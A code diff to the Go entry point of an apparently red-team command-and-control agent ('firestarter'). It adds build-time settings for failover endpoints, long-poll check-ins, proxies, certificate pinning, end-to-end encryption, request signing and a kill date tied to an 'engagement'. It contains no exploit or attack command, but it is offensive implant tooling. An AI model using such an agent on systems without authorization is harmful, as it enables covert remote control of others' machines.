@@ -1,14 +1,20 @@
 package main
 
 import (
+	"encoding/base64"
+	"errors"
 	"firestarter/internal/agent/agent"
 	"firestarter/internal/agent/config"
 	"firestarter/internal/agent/protocol"
+	_ "firestarter/internal/agent/tasks" // Built-in task handlers
+	"firestarter/internal/e2e"
+	"firestarter/internal/signing"
 	"github.com/google/uuid"
 	"log"
 	"os"
 	"os/signal"
 	"strconv"
+	"strings"
 	"syscall"
 	"time"
 )
@@ -25,6 +31,9 @@ var (
 	targetHost string
 	targetPort string
 
+	// Build-time failover chain, comma-separated proto://host:port endpoints
+	fallbackEndpoints string
+
 	// Build-time connection management settings
 	reconnectAttempts string
 	reconnectDelay    string
@@ -34,6 +43,46 @@ var (
 	// Build-time health check settings
 	healthCheckInterval string
 	healthCheckEndpoint string
+
+	// Build-time check-in settings
+	longPoll        string // "false" to fall back to periodic health checks
+	longPollTimeout string
+
+	// Build-time QUIC settings (H3 only)
+	quicIdleTimeout     string
+	quicKeepAlivePeriod string
+
+	// Build-time compression settings
+	compressionCodec     string // gzip, deflate or none
+	compressionThreshold string // Smallest payload compressed, in bytes
+
+	// Build-time task execution settings
+	taskConcurrency string
+	taskTimeout     string
+
+	// Build-time proxy settings
+	proxyURL             string
+	proxyFromEnvironment string // "true" to honour HTTP_PROXY, HTTPS_PROXY and NO_PROXY
+	proxyUsername        string
+	proxyPassword        string
+
+	// Build-time TLS trust settings
+	tlsCABundle string // Base64-encoded PEM bundle
+	tlsPins     string // Comma-separated base64 SPKI SHA-256 hashes
+
+	// Build-time mutual TLS client certificate, both base64-encoded PEM
+	tlsClientCert string
+	tlsClientKey  string
+
+	// Build-time end-to-end encryption keys, both base64-encoded X25519 keys
+	e2eAgentKey  string
+	e2eServerKey string
+
+	// Build-time request signing secret, base64-encoded
+	signingSecret string
+
+	// Build-time kill date, RFC 3339
+	killDate string
 )
 
 func main() {
@@ -56,6 +105,8 @@ func main() {
 		log.Printf("Agent UUID: %s (Built: %s)", embeddedUUID, buildTime)
 		cfg.AgentUUID = embeddedUUID
 	}
+	cfg.BuildTime = buildTime
+	cfg.BuildProtocol = buildProtocol
 
 	// Validate configuration
 	if err := cfg.Validate(); err != nil {
@@ -66,25 +117,11 @@ func main() {
 	log.Println("Agent Configuration:")
 	log.Println(cfg)
 
-	// Create the appropriate protocol based on configuration
-	var proto protocol.Protocol
-	switch cfg.Protocol {
-	case config.H1C:
-		proto = protocol.NewH1CProtocol()
-	case config.H1TLS:
-		log.Println("Creating H1TLS protocol handler")
-		proto = protocol.NewH1CProtocol() // Placeholder until H1TLS is implemented
-	case config.H2C:
-		log.Println("Creating H2C protocol handler")
-		proto = protocol.NewH1CProtocol() // Placeholder until H2C is implemented
-	case config.H2TLS:
-		log.Println("Creating H2TLS protocol handler")
-		proto = protocol.NewH1CProtocol() // Placeholder until H2TLS is implemented
-	case config.H3:
-		log.Println("Creating H3 protocol handler")
-		proto = protocol.NewH1CProtocol() // Placeholder until H3 is implemented
-	default:
-		log.Fatalf("Unsupported protocol: %s", cfg.Protocol)
+	// Create the protocol for the primary endpoint, fallbacks are created by the agent on failover
+	log.Printf("Creating %s protocol handler", cfg.Protocol)
+	proto, err := protocol.NewProtocol(string(cfg.Protocol))
+	if err != nil {
+		log.Fatalf("%v", err)
 	}
 
 	// Create and initialize the agent
@@ -99,6 +136,10 @@ func main() {
 
 	// Start the agent
 	if err := a.Start(); err != nil {
+		if errors.Is(err, agent.ErrKillDateReached) {
+			log.Println("Agent exiting")
+			return
+		}
 		log.Fatalf("Failed to start agent: %v", err)
 	}
 	log.Println("Agent started successfully")
@@ -112,8 +153,14 @@ func main() {
 		log.Println("Connection test successful!")
 	}
 
-	// Wait for termination signal
-	sig := <-signalChan
+	// Wait for a termination signal, or for the agent to stop on its own at its kill date
+	var sig os.Signal
+	select {
+	case sig = <-signalChan:
+	case <-a.Done():
+		log.Println("Agent stopped on its own, exiting")
+		return
+	}
 	log.Printf("Received signal: %v, initiating graceful shutdown...", sig)
 
 	// Define a timeout for graceful shutdown
@@ -172,6 +219,10 @@ func applyBuildTimeConfig(cfg *config.Config) {
 			cfg.Protocol = config.H2TLS
 		case "h3":
 			cfg.Protocol = config.H3
+		case "ws":
+			cfg.Protocol = config.WS
+		case "tcp":
+			cfg.Protocol = config.TCP
 		}
 	}
 
@@ -182,6 +233,13 @@ func applyBuildTimeConfig(cfg *config.Config) {
 	if targetPort != "" {
 		cfg.TargetPort = targetPort
 	}
+	if fallbackEndpoints != "" {
+		if endpoints, err := config.ParseEndpointList(fallbackEndpoints); err == nil {
+			cfg.FallbackEndpoints = endpoints
+		} else {
+			log.Printf("Warning: Invalid fallback endpoints: %v", err)
+		}
+	}
 
 	// Apply reconnection settings
 	if reconnectAttempts != "" {
@@ -226,4 +284,143 @@ func applyBuildTimeConfig(cfg *config.Config) {
 	if healthCheckEndpoint != "" {
 		cfg.HealthCheckEndpoint = healthCheckEndpoint
 	}
+
+	// Apply check-in settings
+	if longPoll != "" {
+		if enabled, err := strconv.ParseBool(longPoll); err == nil {
+			cfg.LongPoll = enabled
+		} else {
+			log.Printf("Warning: Invalid long-poll value: %s", longPoll)
+		}
+	}
+	if longPollTimeout != "" {
+		if timeout, err := time.ParseDuration(longPollTimeout); err == nil {
+			cfg.LongPollTimeout = timeout
+		} else {
+			log.Printf("Warning: Invalid long-poll timeout format: %s", longPollTimeout)
+		}
+	}
+
+	// Apply QUIC settings
+	if quicIdleTimeout != "" {
+		if timeout, err := time.ParseDuration(quicIdleTimeout); err == nil {
+			cfg.QUICIdleTimeout = timeout
+		} else {
+			log.Printf("Warning: Invalid QUIC idle timeout format: %s", quicIdleTimeout)
+		}
+	}
+	if quicKeepAlivePeriod != "" {
+		if period, err := time.ParseDuration(quicKeepAlivePeriod); err == nil {
+			cfg.QUICKeepAlivePeriod = period
+		} else {
+			log.Printf("Warning: Invalid QUIC keep-alive period format: %s", quicKeepAlivePeriod)
+		}
+	}
+
+	// Apply compression settings, an unknown codec is caught by Validate
+	if compressionCodec != "" {
+		cfg.Compression = compressionCodec
+	}
+	if compressionThreshold != "" {
+		if threshold, err := strconv.Atoi(compressionThreshold); err == nil {
+			cfg.CompressionThreshold = threshold
+		} else {
+			log.Printf("Warning: Invalid compression threshold value: %s", compressionThreshold)
+		}
+	}
+
+	// Apply task execution settings
+	if taskConcurrency != "" {
+		if concurrency, err := strconv.Atoi(taskConcurrency); err == nil {
+			cfg.TaskConcurrency = concurrency
+		} else {
+			log.Printf("Warning: Invalid task concurrency value: %s", taskConcurrency)
+		}
+	}
+	if taskTimeout != "" {
+		if timeout, err := time.ParseDuration(taskTimeout); err == nil {
+			cfg.TaskTimeout = timeout
+		} else {
+			log.Printf("Warning: Invalid task timeout format: %s", taskTimeout)
+		}
+	}
+
+	// Apply proxy settings
+	if proxyURL != "" {
+		cfg.ProxyURL = proxyURL
+	}
+	if proxyFromEnvironment != "" {
+		if useEnv, err := strconv.ParseBool(proxyFromEnvironment); err == nil {
+			cfg.ProxyFromEnvironment = useEnv
+		} else {
+			log.Printf("Warning: Invalid proxy-from-environment value: %s", proxyFromEnvironment)
+		}
+	}
+	if proxyUsername != "" {
+		cfg.ProxyUsername = proxyUsername
+		cfg.ProxyPassword = proxyPassword
+	}
+
+	// Apply TLS trust settings, a corrupt bundle is fatal since we must never fall back to weaker trust
+	if tlsCABundle != "" {
+		bundle, err := base64.StdEncoding.DecodeString(tlsCABundle)
+		if err != nil {
+			log.Fatalf("Invalid embedded CA bundle: %v", err)
+		}
+		cfg.TLSCABundle = bundle
+	}
+	if tlsPins != "" {
+		for _, pin := range strings.Split(tlsPins, ",") {
+			if pin = strings.TrimSpace(pin); pin != "" {
+				cfg.TLSPins = append(cfg.TLSPins, pin)
+			}
+		}
+	}
+
+	if tlsClientCert != "" {
+		cert, err := base64.StdEncoding.DecodeString(tlsClientCert)
+		if err != nil {
+			log.Fatalf("Invalid embedded client certificate: %v", err)
+		}
+		key, err := base64.StdEncoding.DecodeString(tlsClientKey)
+		if err != nil {
+			log.Fatalf("Invalid embedded client key: %v", err)
+		}
+		cfg.TLSClientCert = cert
+		cfg.TLSClientKey = key
+	}
+
+	// Apply end-to-end encryption keys, a corrupt key is fatal since payloads must never go out in the clear
+	if e2eAgentKey != "" {
+		key, err := e2e.ParsePrivateKey(e2eAgentKey)
+		if err != nil {
+			log.Fatalf("Invalid embedded agent key: %v", err)
+		}
+		cfg.E2EPrivateKey = key
+	}
+	if e2eServerKey != "" {
+		key, err := e2e.ParsePublicKey(e2eServerKey)
+		if err != nil {
+			log.Fatalf("Invalid embedded server key: %v", err)
+		}
+		cfg.E2EServerKey = key
+	}
+
+	// Apply the kill date, a corrupt one is fatal since the agent must never outlive the engagement
+	if killDate != "" {
+		date, err := time.Parse(time.RFC3339, killDate)
+		if err != nil {
+			log.Fatalf("Invalid embedded kill date: %v", err)
+		}
+		cfg.KillDate = date
+	}
+
+	// Apply the request signing secret, a corrupt secret is fatal since the server would reject every request
+	if signingSecret != "" {
+		secret, err := signing.ParseSecret(signingSecret)
+		if err != nil {
+			log.Fatalf("Invalid embedded signing secret: %v", err)
+		}
+		cfg.SigningSecret = secret
+	}
 }